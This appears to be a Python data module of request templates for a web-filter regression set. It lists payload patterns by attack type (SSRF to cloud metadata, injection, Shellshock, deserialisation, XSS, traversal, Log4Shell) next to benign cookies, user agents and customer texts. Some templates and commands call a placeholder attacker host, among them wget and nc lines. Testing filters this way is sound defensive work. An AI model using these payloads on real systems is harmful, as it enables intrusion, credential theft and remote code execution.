"""Patterns of the regression set's requests: attacks by type, clients, cookies, texts of people.

`{w}` is a word, `{d}` a small and `{n}` a large number, `{p}` a port, `{h}` a host of an attacker,
`{s}` one of nobody, `{t}` a token, `{m}` a command.
"""

from __future__ import annotations

ATTACKS = {
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/{w}-role",
        "http://127.0.0.1:{p}/{w}/status",
        "http://[::ffff:7f00:1]:{p}/{w}",
        "gopher://localhost:{p}/_SET%20{w}%20{p}",
        "dict://10.{d}.{d}.1:{p}/info",
    ],
    "rfi": [
        "http://{h}/{w}/bot.txt?",
        "https://{h}/{w}.php?cmd=uname",
        "ftp://{h}/pub/{w}.txt%00",
    ],
    "ldap": [
        "*)(|(givenName={w}*",
        "{w})(&(objectClass=person)(cn=*",
        "*)(userPassword={w}*))(|(cn=*",
    ],
    "xpath": [
        "{w}' or string-length(//{w}[{d}]/pin)>{d} or 'q'='q",
        "x'] | //{w}/text() | //y['",
        "' or count(parent::*[position()={d}])=0 or '{w}'='",
    ],
    "crlf": ["{w}\r\nSet-Cookie: {w}={p}; Path=/", "/{w}\r\nLocation: https://{h}/{w}"],
    "ssi": ['<!--#exec cmd="{m}"-->', '{w}<!--#include virtual="/etc/{w}.conf"-->'],
    "shellshock": ["() {{ :;}}; echo {w}; {m}", '() {{ {w};}}; /usr/bin/env bash -c "{m}"'],
    "java": [
        "%{{(#{w}=@java.lang.Runtime@getRuntime()).exec('{m}')}}",
        "${{@java.lang.Runtime@getRuntime().exec('{m}')}}",
        "T(java.lang.ProcessBuilder).newInstance('{m}').start()",
    ],
    "code": [
        "require('child_process').execFileSync('{m}')",
        "__import__('subprocess').getoutput('{m}')",
        "{w}\";import os;os.popen('{m}');\"",
    ],
    "deserialisation": [
        'O:{d}:"{w}Gadget":1:{{s:7:"command";s:2:"id";}}',
        '!!python/object/apply:os.popen ["{m}"]',
        '{{"@type":"org.apache.commons.configuration.JNDIConfiguration","prefix":"rmi://{h}/{w}"}}',
    ],
    "sqli": [
        "{p}' AND (SELECT {d} FROM (SELECT(SLEEP({d})))x) AND '{w}'='{w}",
        "-{d} UNION SELECT 1,GROUP_CONCAT({w},0x2c,pin),3 FROM {w}_users-- -",
        "{p}\") OR JSON_EXTRACT('{{}}','$.{w}') IS NULL OR (\"1\"=\"1",
    ],
    "xss": [
        "<svg/onload=fetch`//{h}`>",
        "\"><input/onfocus=confirm({d})/autofocus>",
        "<a href='javascript:alert({d})'>{w}</a>",
        "</script><script src=//{h}/{w}></script>",
    ],
    "traversal": [
        "../../../../../../etc/passwd",
        "..\\..\\..\\windows\\system.ini",
        "{w}/....//....//....//etc/group",
        "file:///etc/{w}/../passwd",
    ],
    "log4shell": ["${{jndi:ldap://{h}:{p}/{w}}}", "${{${{env:{w}:-j}}ndi${{env:{w}:-:}}rmi://{h}/{w}}}"],
    "redirect": ["//{h}/%2e%2e/{w}", "https://www.example.org@{h}/{w}", "/\\{h}/{w}", "https:{h}"],
}  # fmt: skip
COMMANDS = ["cat /etc/group", "wget {h}/{w} -O /tmp/{w}", "nc {h} {p}", "sleep {d}", "whoami"]
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/{v}.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.{d}; rv:{v}.0) Gecko/20100101 Firefox/{v}.0",
    "Mozilla/5.0 (iPad; CPU OS 17_{d} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.{d} Mobile/15E148 Safari/604.1",
    "ParcelApp/{d}.4 (Android 14; Pixel 8; nl-NL) okhttp/5.{d}",
]
COOKIES = [
    "_ga=GA1.3.{n}.{n}",
    "consent=%7B%22ads%22%3Afalse%2C%22stats%22%3A%22yes%22%2C%22at%22%3A{n}%7D",
    "jwt=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI{t}.{t}",
    "basket={n}:2|{n}:1|voucher:{w}",
    "recent=[{n},{n}]&v=2",
    "auth0.is.authenticated=true",
    "tz=Europe%2FLisbon; theme=light",
    "PHPSESSID={t}",
]
SHOPPING = ["kettle", "ladder", "O'Reilly books", 'ink "XL"', "tea & coffee", "1/2 inch union nut"]
PASSWORDS = ["{w}'s&{d}%{w}", "<{d}{w}!>", "{t}", "{w};{w}#{d}--x", '"{w} {w}"{d}', "`{w}`=${d}"]
TEXTS = [
    "Hello, I've selected {w} from the list & it isn't where it should be; can you update it?",
    "The {w}'s lid broke (again!) -- order no. {n}; please drop me a line <3",
    "<p>Our <b>{w}</b> opens at 10:30.</p><ul><li>Rooms &gt; 20 m&sup2;</li></ul>",
    "## {w}\n\n* [x] `union` of {w}\n* [ ] see [docs](https://{s}/{w}?id={d}#top)\n",
    "function total(a, b) {{ return a.price * b.count; }} // {w}",
    "Größe: {d} cm; Preis: {d},50 €; geöffnet 9-17 Uhr",
]
